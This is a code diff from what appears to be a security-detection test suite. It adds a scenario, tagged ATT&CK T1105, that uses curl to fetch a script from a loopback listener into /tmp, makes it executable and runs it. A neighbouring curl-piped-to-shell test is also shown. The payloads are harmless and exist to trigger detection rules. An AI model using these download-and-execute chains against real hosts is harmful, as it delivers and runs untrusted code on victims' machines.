@@ -180,6 +180,18 @@ def dropped_exec(work: Path) -> None:
     sh(f"cp /bin/true {path} && chmod +x {path} && {path}")
 
 
+@scenario("T1105", "a download saved in /tmp, made executable by a relative chmod and run (default prefixes)",
+          "temp_file_made_executable_and_run")
+def dropper_chmod_in_tmp(work: Path) -> None:
+    name = f"ravn-drop-{os.getpid()}"
+    lst = Listener(send=b"HTTP/1.0 200 OK\r\n\r\n#!/bin/sh\ntrue\n")
+    try:
+        sh(f"cd /tmp && curl -s -m 3 -o {name} http://127.0.0.1:{lst.port}/x && chmod 755 {name} && ./{name}")
+    finally:
+        lst.close()
+        Path(f"/tmp/{name}").unlink(missing_ok=True)
+
+
 @scenario("T1105", "curl | sh from a loopback URL", "download_piped_to_shell")
 def curl_pipe_sh(work: Path) -> None:
     lst = Listener(send=b"HTTP/1.0 200 OK\r\n\r\ntrue\n")
